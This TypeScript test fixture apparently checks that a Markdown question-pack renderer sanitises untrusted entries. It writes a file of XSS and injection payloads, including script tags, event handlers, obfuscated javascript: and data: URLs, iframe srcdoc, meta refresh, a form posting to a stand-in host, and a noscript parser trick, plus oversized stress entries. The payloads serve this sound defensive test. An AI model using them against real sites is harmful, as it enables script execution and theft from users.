import { appendFileSync, mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { importPack } from '../../src/import/import-pack.ts';

/** Lists in the shapes of public ones. */
const LISTS = fileURLToPath(new URL('../fixtures/lists', import.meta.url));
/** A host that no page may ask for anything. */
export const ELSEWHERE = 'https://elsewhere.example';
/** What a script of an entry would set on the window. */
export const RAN = 'strangersCodeRan';

/** What a stranger's Markdown may try, each followed by a word that is read. */
const HOSTILE = [
  `<script>window.${RAN} = 1</script>Word-script`,
  `<script src="${ELSEWHERE}/x.js"></script>\n\nWord-source`,
  `<img src="x" onerror="window.${RAN} = 1" alt="Word-onerror">`,
  `<img src="oven.png" srcset="${ELSEWHERE}/big.png 2x" sizes="100vw" alt="Word-srcset">`,
  `<picture><source srcset="${ELSEWHERE}/p.webp"><img src="${ELSEWHERE}/p.png" alt="Word-picture"></picture>`,
  `![Word-picture-elsewhere](${ELSEWHERE}/m.png)`,
  `[Word-javascript](javascript:window.${RAN}=1) <a href=" java\nscript:window.${RAN}=1">Word-split</a> <a href="jav&#x61;script:window.${RAN}=1">Word-entity</a>`,
  `[Word-data](data:text/html,<script>alert(1)</script>) <a href="vbscript:x">Word-vbscript</a> <a href="//elsewhere.example/x">Word-schemeless</a>`,
  `<iframe src="${ELSEWHERE}/frame" srcdoc="<script>parent.${RAN}=1</script>"></iframe>Word-iframe`,
  `<style>body { display: none } @import url(${ELSEWHERE}/x.css);</style>Word-style`,
  `<link rel="stylesheet" href="${ELSEWHERE}/x.css">Word-link`,
  `<base href="${ELSEWHERE}/">Word-base`,
  `<meta http-equiv="refresh" content="0; url=${ELSEWHERE}/">Word-refresh`,
  `<form action="${ELSEWHERE}/send" method="post"><input name="q" autofocus onfocus="window.${RAN}=1"><button>Word-form</button></form>`,
  `<svg onload="window.${RAN}=1"><image href="${ELSEWHERE}/s.png"/></svg>Word-svg`,
  `<math><mtext><img src=x onerror="window.${RAN}=1"></mtext></math>Word-math`,
  `<video src="${ELSEWHERE}/v.mp4" autoplay poster="${ELSEWHERE}/v.png">Word-video</video><audio src="${ELSEWHERE}/a.mp3" autoplay></audio>`,
  `<object data="${ELSEWHERE}/o"></object><embed src="${ELSEWHERE}/e">Word-object`,
  `<p style="background: url(${ELSEWHERE}/b.png); position: fixed; inset: 0" class="site-head" id="content">Word-looks</p>`,
  `<table background="${ELSEWHERE}/t.png"><tr><td background="${ELSEWHERE}/c.png">Word-cell</td></tr></table>`,
  `<qa-theme>Word-element</qa-theme><dialog open>Word-dialog</dialog>`,
  `</details></article></main><h1>Word-closing</h1>`,
  `<noscript><p title="</noscript><img src=x onerror=window.${RAN}=1>">Word-noscript</p></noscript>Word-after`,
  '```html\n<script>window.wordCode = 1</script>\n```',
].join('\n\n');

/** Every word of the hostile entry that a reader has to see. */
export const HOSTILE_WORDS = [...new Set([...HOSTILE.matchAll(/Word-[a-z-]+/g)].map(([word]) => word))].filter((word) => word !== 'Word-noscript');
const HOSTILE_QUESTION = `What does <img src=x onerror="window.${RAN}=1"> do?`;
/** How deeply the lists of an entry are nested. */
export const NESTED = 18;

/** Writes a plain pack: lists that were imported, with entries of strangers beside them. The folder must be new. */
export async function writePlainPack(folder: string): Promise<void> {
  await importPack([LISTS], folder);
  appendFileSync(join(folder, 'topics.yaml'), '- key: strangers\n  name: Strangers\n');
  const write = (slug: string, question: string, body: string): void => {
    mkdirSync(join(folder, 'questions/strangers'), { recursive: true });
    writeFileSync(join(folder, `questions/strangers/${slug}.md`), `---\nquestion: ${JSON.stringify(question)}\n---\n\n${body}\n`);
  };
  write('hostile', HOSTILE_QUESTION, HOSTILE);
  const nested = Array.from({ length: NESTED }, (_, depth) => `${'  '.repeat(depth)}- Level ${depth + 1} of a list that goes on`).join('\n');
  const items = Array.from({ length: 200 }, (_, index) => `${index + 1}. Item ${index + 1}`).join('\n');
  write('nested', 'How deep can a list be?', `${nested}\n\n${items}`);
  const word = 'unbreakable'.repeat(30);
  const table = `| ${Array.from({ length: 12 }, (_, index) => `Column ${index + 1}`).join(' | ')} |\n|${'---|'.repeat(12)}\n| ${Array.from({ length: 12 }, () => word.slice(0, 40)).join(' | ')} |`;
  write('wide', 'What is wide?', `${word}\n\n\`${word}\`\n\n\`\`\`\n${word}\n\`\`\`\n\n> ${word}\n\n${table}\n\n$$\n${word}\n$$`);
}
